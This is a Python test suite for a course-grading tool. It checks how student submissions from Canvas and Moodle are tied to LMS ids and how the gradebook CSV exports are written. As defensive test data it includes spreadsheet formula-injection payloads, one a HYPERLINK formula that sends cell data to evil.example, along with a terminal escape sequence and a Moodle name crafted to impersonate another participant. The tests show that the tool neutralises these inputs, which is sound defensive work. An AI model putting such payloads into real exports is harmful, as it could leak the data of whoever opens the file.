"""Who a collected submission belongs to, and what the LMS exports write about them.

The LMS's own id (Canvas's user id, Moodle's participant id) is a student's key; names are for
display only; a name that could be two students is refused, naming both; the recorded time is
the LMS's or the instructor's disk's, never a date the student chose; and no export cell is a
spreadsheet formula. Each test here failed before collect and the exports followed these rules.
"""

from __future__ import annotations

import csv
import json
import os
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

import course_tools
from instructor.commands.collect import CollectReport, collect
from instructor.output import lms_gradebook
from instructor.records import lms

ASSIGNMENT = "01_bptt"


def _notebook(tag: str) -> str:
    """A notebook whose bytes say whose it is."""
    return json.dumps({"cells": [], "metadata": {"tag": tag}, "nbformat": 4, "nbformat_minor": 5})


def _zip(path: Path, members: dict[str, str | bytes], when=(2024, 3, 3, 10, 0, 0)) -> Path:
    """A zip of `members`, every entry dated `when`."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=when), data)
    return path


def _moodle_download(where: Path, layout: str, folders: dict[str, str]) -> Path:
    """Moodle's per-student folders (name -> notebook tag), on disk or in a bulk zip."""
    if layout == "zip":
        members = {f"{name}/{ASSIGNMENT}.ipynb": _notebook(tag) for name, tag in folders.items()}
        return _zip(where.with_suffix(".zip"), members)
    for name, tag in folders.items():
        (where / name).mkdir(parents=True)
        (where / name / f"{ASSIGNMENT}.ipynb").write_text(_notebook(tag))
    return where


def _tag(course: Path, student: str, assignment: str = ASSIGNMENT) -> str:
    """Whose notebook lies in a student's submitted folder."""
    nb = course / "submitted" / student / assignment / f"{assignment}.ipynb"
    return json.loads(nb.read_text())["metadata"]["tag"]


def _ids(course: Path, assignment: str = ASSIGNMENT) -> dict[str, tuple[str, str, str]]:
    """student -> (lms, id, name), as collect recorded them."""
    recorded = lms.recorded(course, assignment)
    return {s: (i.lms.value, i.id, i.name) for s, i in recorded.items()}


def _text(report: CollectReport) -> str:
    return "\n".join(report.lines())


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="") as table:
        return list(csv.reader(table))


@pytest.fixture()
def course(tmp_path):
    return course_tools.copy_course(tmp_path / "course")


def test_two_canvas_students_with_one_display_name_stay_two(course, tmp_path):
    bulk = _zip(
        tmp_path / "submissions.zip",
        {
            "smithjohn_5001_11_01_bptt.ipynb": _notebook("john 5001"),
            "smithjohn_5002_12_01_bptt.ipynb": _notebook("john 5002"),
        },
    )
    report = collect(course, bulk, ASSIGNMENT)
    assert _ids(course) == {
        "smithjohn_5001": ("canvas", "5001", "smithjohn"),
        "smithjohn_5002": ("canvas", "5002", "smithjohn"),
    }
    assert _tag(course, "smithjohn_5001") == "john 5001"
    assert _tag(course, "smithjohn_5002") == "john 5002"
    said = _text(report)
    assert "kept the newest" not in said
    for expected in ("Canvas user 5001", "Canvas user 5002", "smithjohn_5002_12_01_bptt.ipynb"):
        assert expected in said, said
    scores = {ASSIGNMENT: {"smithjohn_5001": 9.0, "smithjohn_5002": 4.0}}
    result = lms_gradebook.write_canvas(course, tmp_path / "canvas.csv", scores, {})
    assert not result.unmapped
    rows = {row[1]: row for row in _rows(tmp_path / "canvas.csv")[1:]}
    assert {i: row[5] for i, row in rows.items()} == {"5001": "9", "5002": "4"}


def test_an_lms_student_keeps_their_student_id_whatever_names_come_later(course, tmp_path):
    """The id recorded for a Canvas user stays theirs: another user of the same name gets their
    own, in this assignment and in the next; a user who changes their name keeps theirs."""
    first = _zip(tmp_path / "first.zip", {"smithjohn_5001_11_01_bptt.ipynb": _notebook("5001")})
    collect(course, first, ASSIGNMENT)
    later = _zip(tmp_path / "later.zip", {"smithjohn_5002_12_01_bptt.ipynb": _notebook("5002")})
    report = collect(course, later, ASSIGNMENT)
    assert report.replaced == []
    assert _tag(course, "smithjohn") == "5001"
    assert _tag(course, "smithjohn_5002") == "5002"
    assert "Canvas user 5001" in _text(report) and "Canvas user 5002" in _text(report)
    renamed = _zip(tmp_path / "renamed.zip", {"smithjon_5001_13_01_bptt.ipynb": _notebook("v2")})
    collect(course, renamed, ASSIGNMENT)
    assert _tag(course, "smithjohn") == "v2"
    assert _ids(course)["smithjohn"] == ("canvas", "5001", "smithjon")
    assert not (course / "submitted" / "smithjon").exists()
    # The next assignment: only the second John submitted; the name is the first John's.
    second = _zip(tmp_path / "02.zip", {"smithjohn_5002_14_02.ipynb": _notebook("02 by 5002")})
    collect(course, second, "02_vanishing")
    assert _ids(course, "02_vanishing") == {"smithjohn_5002": ("canvas", "5002", "smithjohn")}


@pytest.mark.parametrize("layout", ["folders", "zip"])
def test_two_moodle_participants_whose_names_normalise_alike_stay_two(course, tmp_path, layout):
    source = _moodle_download(
        tmp_path / "moodle",
        layout,
        {
            "Alice Smith_1101_assignsubmission_file_": "alice 1101",
            "Alice  Smith!_1102_assignsubmission_file_": "alice 1102",
        },
    )
    report = collect(course, source, ASSIGNMENT)
    ids = _ids(course)
    assert sorted(ids.values()) == [
        ("moodle", "1101", "Alice Smith"),
        ("moodle", "1102", "Alice  Smith!"),
    ]
    for student, (_, participant, _) in ids.items():
        assert _tag(course, student) == f"alice {participant}"
    assert "kept the newest" not in _text(report)
    scores = {ASSIGNMENT: {s: float(i[1]) - 1100 for s, i in ids.items()}}
    result = lms_gradebook.write_moodle(course, tmp_path / "grades.csv", scores)
    assert not result.unmapped
    rows = _rows(tmp_path / f"grades-{ASSIGNMENT}.csv")[1:]
    assert [(r[0], r[2]) for r in rows] == [
        ("Participant 1101", "1.00"),
        ("Participant 1102", "2.00"),
    ]


@pytest.mark.parametrize("layout", ["folders", "zip"])
def test_a_crafted_moodle_full_name_cannot_take_another_participants_id(course, tmp_path, layout):
    """Participant 1102 names themself `Eve_1101_assignsubmission_file_ x`: their folder still
    belongs to 1102, and 1101 has one row, with their own grade."""
    crafted = "Eve_1101_assignsubmission_file_ x"
    source = _moodle_download(
        tmp_path / "moodle",
        layout,
        {
            "Eve Adams_1101_assignsubmission_file_": "eve 1101",
            f"{crafted}_1102_assignsubmission_file_": "attacker 1102",
        },
    )
    collect(course, source, ASSIGNMENT)
    by_id = {participant: s for s, (_, participant, _) in _ids(course).items()}
    assert sorted(by_id) == ["1101", "1102"]
    assert _tag(course, by_id["1101"]) == "eve 1101"
    assert _tag(course, by_id["1102"]) == "attacker 1102"
    assert _ids(course)[by_id["1102"]][2] == crafted
    scores = {ASSIGNMENT: {by_id["1101"]: 10.0, by_id["1102"]: 0.0}}
    lms_gradebook.write_moodle(course, tmp_path / "grades.csv", scores)
    rows = _rows(tmp_path / f"grades-{ASSIGNMENT}.csv")[1:]
    assert [(r[0], r[2]) for r in rows] == [
        ("Participant 1101", "10.00"),
        ("Participant 1102", "0.00"),
    ]


def test_a_moodle_file_name_that_reads_as_two_participants_is_refused(course, tmp_path):
    """Downloaded without folders, the full name and the file name surround Moodle's pattern:
    when it occurs with two ids, nobody can tell whose file it is."""
    downloads = tmp_path / "flat"
    downloads.mkdir()
    name = "Eve_1101_assignsubmission_file_ x_1102_assignsubmission_file_01_bptt.ipynb"
    (downloads / name).write_text(_notebook("who?"))
    (downloads / "Bob Ray_1103_assignsubmission_file_01_bptt.ipynb").write_text(_notebook("bob"))
    report = collect(course, downloads, ASSIGNMENT)
    assert _ids(course) == {"bob_ray": ("moodle", "1103", "Bob Ray")}
    problem = next(p for p in report.problems if name in p)
    assert "Moodle participant 1101" in problem and "Moodle participant 1102" in problem
    assert "in folders" in problem


def test_names_in_other_scripts_keep_their_lms_id(course, tmp_path):
    bulk = _zip(tmp_path / "canvas.zip", {"müllerjosé_5003_13_01_bptt.ipynb": _notebook("josé")})
    collect(course, bulk, ASSIGNMENT)
    moodle = _moodle_download(
        tmp_path / "moodle", "folders", {"李雷_1234_assignsubmission_file_": "li lei"}
    )
    report = collect(course, moodle, ASSIGNMENT)
    ids = _ids(course)
    assert ("canvas", "5003", "müllerjosé") in ids.values()
    assert ids["moodle_1234"] == ("moodle", "1234", "李雷")
    assert _tag(course, "moodle_1234") == "li lei"
    assert not report.problems


def test_a_students_own_zip_dates_are_not_the_submission_time(course, tmp_path):
    """A student's zip says its notebook was written in 2099: the time recorded is the zip's on
    the instructor's disk (or the bulk download's entry), and the newest notebook is chosen by
    those times."""
    downloads = tmp_path / "zips"
    downloads.mkdir()
    future = (2099, 1, 1, 0, 0, 0)
    on_disk = datetime(2024, 5, 6, 12, 0, tzinfo=UTC).timestamp()
    _zip(downloads / "alice.zip", {"work/01_bptt.ipynb": _notebook("alice")}, future)
    os.utime(downloads / "alice.zip", (on_disk, on_disk))
    _zip(downloads / "bob.zip", {"01_bptt.ipynb": _notebook("bob old")}, future)
    os.utime(downloads / "bob.zip", (on_disk - 86400, on_disk - 86400))
    (downloads / "bob_01_bptt.ipynb").write_text(_notebook("bob new"))
    os.utime(downloads / "bob_01_bptt.ipynb", (on_disk, on_disk))
    collect(course, downloads, ASSIGNMENT)
    stamp = (course / "submitted/alice/01_bptt/timestamp.txt").read_text()
    assert stamp == "2024-05-06 12:00:00.000000 UTC"
    assert _tag(course, "bob") == "bob new"
    inner = _zip(tmp_path / "inner.zip", {"01_bptt.ipynb": _notebook("dana")}, future)
    bulk = _zip(
        tmp_path / "canvas.zip",
        {"smithdana_12345_67890_work.zip": inner.read_bytes()},
        (2024, 3, 3, 10, 0, 0),
    )
    collect(course, bulk, ASSIGNMENT)
    stamp = (course / "submitted/smithdana/01_bptt/timestamp.txt").read_text()
    assert stamp == "2024-03-03 10:00:00.000000 UTC"


def test_a_file_without_an_id_on_an_lms_students_name_is_refused(course, tmp_path):
    """`smithjohn.ipynb` beside Canvas user 5001's `smithjohn_5001_...`: it may or may not be
    theirs, so neither is placed and the line names both."""
    downloads = tmp_path / "mixed"
    downloads.mkdir()
    (downloads / "smithjohn.ipynb").write_text(_notebook("who?"))
    (downloads / "smithjohn_5001_11_01_bptt.ipynb").write_text(_notebook("5001"))
    (downloads / "alice.ipynb").write_text(_notebook("alice"))
    report = collect(course, downloads, ASSIGNMENT)
    assert {s for s, _ in report.placed} == {"alice"}
    problem = next(p for p in report.problems if "smithjohn.ipynb" in p)
    assert "Canvas user 5001" in problem and "smithjohn_5001_11_01_bptt.ipynb" in problem


def test_canvas_late_marker_is_kept_in_the_record(course, tmp_path):
    bulk = _zip(
        tmp_path / "canvas.zip",
        {
            "leeeve_late_222_333_01_bptt.ipynb": _notebook("late"),
            "smithdana_12345_67890_01_bptt.ipynb": _notebook("on time"),
        },
    )
    collect(course, bulk, ASSIGNMENT)
    recorded = lms.recorded(course, ASSIGNMENT)
    assert recorded["leeeve"].late is True
    assert recorded["smithdana"].late is False


def test_collect_lists_whom_it_placed_replaced_and_flagged_late(course, tmp_path):
    """Each student placed gets a line: placed or replaced, and late by Canvas's marker or by the
    LMS's time against the due date in pyproject.toml ([tool.rnn-course.due])."""
    text = (course_tools.ROOT / "pyproject.toml").read_text()
    (course / "pyproject.toml").write_text(
        text + '\n[tool.rnn-course.due]\n"01_bptt" = "2024-03-03T11:00:00+01:00"\n'
    )
    first = {
        "smithdana_12345_1_01_bptt.ipynb": _notebook("dana"),
        "leeeve_late_222_2_01_bptt.ipynb": _notebook("eve"),
    }
    said = _text(
        collect(course, _zip(tmp_path / "a.zip", first, (2024, 3, 3, 9, 0, 0)), ASSIGNMENT)
    )
    assert "placed 2 submission(s) (1 late)" in said
    assert "  placed smithdana from smithdana_12345_1_01_bptt.ipynb\n" in said + "\n"
    assert "placed leeeve from" in said and "late: marked late by the LMS" in said
    again = {"smithdana_12345_3_01_bptt.ipynb": _notebook("dana, later")}
    said = _text(
        collect(course, _zip(tmp_path / "b.zip", again, (2024, 3, 4, 9, 0, 0)), ASSIGNMENT)
    )
    assert "(1 replaced an earlier one; 1 late)" in said
    assert (
        "replaced smithdana from smithdana_12345_3" in said
        and "1 day(s) after the due date" in said
    )


def test_one_lms_id_is_never_two_students(course, tmp_path):
    """A record giving one id to two students (hand-edited, or left by an older collect) is
    refused by record and by the exports, naming both students."""
    ident = lms.LmsId(lms.Lms.CANVAS, "5001", "smithjohn")
    with pytest.raises(ValueError, match="smithjohn and smithjohn_2"):
        lms.record(course, ASSIGNMENT, {"smithjohn": ident, "smithjohn_2": ident})
    store = course / ".grading" / "lms" / f"{ASSIGNMENT}.json"
    store.parent.mkdir(parents=True, exist_ok=True)
    store.write_text(json.dumps({s: ident.to_json() for s in ("smithjohn", "smithjohn_2")}))
    scores = {ASSIGNMENT: {"smithjohn": 1.0, "smithjohn_2": 2.0}}
    with pytest.raises(ValueError, match="smithjohn and smithjohn_2"):
        lms_gradebook.write_canvas(course, tmp_path / "canvas.csv", scores, {})


# Folder names cannot hold a slash; the link needs none to be a formula.
FORMULAS = ['=HYPERLINK("evil.example?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


def test_no_export_cell_is_a_formula(course, tmp_path):
    """Names that start a formula (a Moodle full name, a Canvas name) reach the exports as text:
    a single quote in front, as OWASP advises."""
    folders = {f"{f}_{1200 + n}_assignsubmission_file_": f for n, f in enumerate(FORMULAS)}
    for n, name in enumerate(folders):
        (tmp_path / "moodle" / name).mkdir(parents=True)
        (tmp_path / "moodle" / name / "01_bptt.ipynb").write_text(_notebook(str(n)))
    collect(course, tmp_path / "moodle", ASSIGNMENT)
    canvas = _zip(tmp_path / "canvas.zip", {"-9-9_5006_16_01_bptt.ipynb": _notebook("minus")})
    collect(course, canvas, ASSIGNMENT)
    recorded = lms.recorded(course, ASSIGNMENT)
    assert len(recorded) == len(FORMULAS) + 1
    scores = {ASSIGNMENT: dict.fromkeys(recorded, 1.0)}
    lms_gradebook.write_moodle(course, tmp_path / "grades.csv", scores)
    names = [row[1] for row in _rows(tmp_path / f"grades-{ASSIGNMENT}.csv")[1:]]
    # a leading carriage return is written as its escape, which starts no formula either
    assert names == [f"'{f}" for f in FORMULAS[:-1]] + ["\\x0d=1"]
    lms_gradebook.write_canvas(course, tmp_path / "canvas.csv", scores, {})
    rows = _rows(tmp_path / "canvas.csv")
    assert [row[0] for row in rows[1:]] == ["'-9-9"]
    assert rows[1][5] == "1"


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\\x0d=1"),  # a carriage return is shown as its escape: no formula left
        ("Ann\x1b[2J\x1b]0;T\x07", "Ann\\x1b[2J\\x1b]0;T\\x07"),  # cat obeys no escape
        ("two\nlines", "two\nlines"),
        ("Alice Smith", "Alice Smith"),
        ("a=1", "a=1"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_inert_cell(value, cell):
    from instructor.output.csv_cells import inert_cell

    assert inert_cell(value) == cell


@pytest.mark.parametrize(
    "name, folder, expected",
    [
        ("Eve_1101_assignsubmission_file_ x_1102_assignsubmission_file_", True, ("moodle", "1102")),
        ("a_5_6_x_1102_assignsubmission_file_", True, ("moodle", "1102")),
        ("Eve_1102_assignsubmission_file_a_1101_assignsubmission_file_.ipynb", False, None),
        ("smithjohn_5001_11_x_1102_assignsubmission_file_y.ipynb", False, None),
        (
            "Eve_1102_assignsubmission_file_Eve_1102_assignsubmission_file_.ipynb",
            False,
            ("moodle", "1102"),
        ),
        ("müllerjosé_late_5003_13_01_bptt.ipynb", False, ("canvas", "5003")),
        ("smithjohn_5001_11_x_5002_12_y.ipynb", False, ("canvas", "5001")),
    ],
)
def test_lms_names_are_read_from_moodles_own_end_or_refused(name, folder, expected):
    """A folder's Moodle suffix is the last one; a file name holding two ids, or both LMSes'
    patterns, is refused naming each candidate (None: AmbiguousName)."""
    if expected is None:
        with pytest.raises(lms.AmbiguousName) as refused:
            lms.identify(name, folder)
        assert len(refused.value.candidates) == 2
        assert all(c.describe() in str(refused.value) for c in refused.value.candidates)
    else:
        found = lms.identify(name, folder)
        assert found is not None and (found.lms.value, found.id) == expected
